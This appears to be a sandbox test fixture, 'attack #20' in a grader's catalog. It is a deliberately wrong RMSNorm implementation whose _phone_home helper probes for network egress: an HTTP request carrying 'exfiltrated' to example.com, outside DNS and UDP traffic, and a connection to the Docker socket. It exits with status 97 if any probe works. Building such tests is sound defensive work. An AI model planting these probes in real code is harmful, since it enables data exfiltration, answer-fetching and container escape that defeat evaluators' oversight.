"""Attack (catalog #20): reach the network to exfiltrate inputs or fetch answers.

Tries a TCP connection to 1.1.1.1:53, DNS resolution, an HTTP request with urllib, a UDP
datagram and a Unix socket to the Docker daemon. If any of them works, the process exits with
status 97 (a tell-tale crash instead of the expected wrong answer). The maths is wrong.
"""

import os
import socket
import urllib.request


def _attempts():
    yield lambda: socket.create_connection(("1.1.1.1", 53), timeout=0.3)
    yield lambda: socket.getaddrinfo("example.com", 80)
    yield lambda: urllib.request.urlopen("http://example.com/?x=exfiltrated", timeout=0.3)
    yield lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
    yield lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")


def _phone_home():
    for attempt in _attempts():
        try:
            attempt()
        except Exception:
            continue
        os._exit(97)  # the network was reachable


def rmsnorm(x, gamma, eps=1e-6):
    _phone_home()
    y = (x * 2.0 + 1.0).astype("float64")  # wrong: no normalization, float64 whatever the input
    x += 1.0
    return y


def rmsnorm_backward(dout, x, gamma, eps=1e-6):
    _phone_home()
    dx, dgamma = dout * 2.0 + 1.0, gamma * 0.0 + 1.0  # wrong
    dout += 1.0
    return dx, dgamma
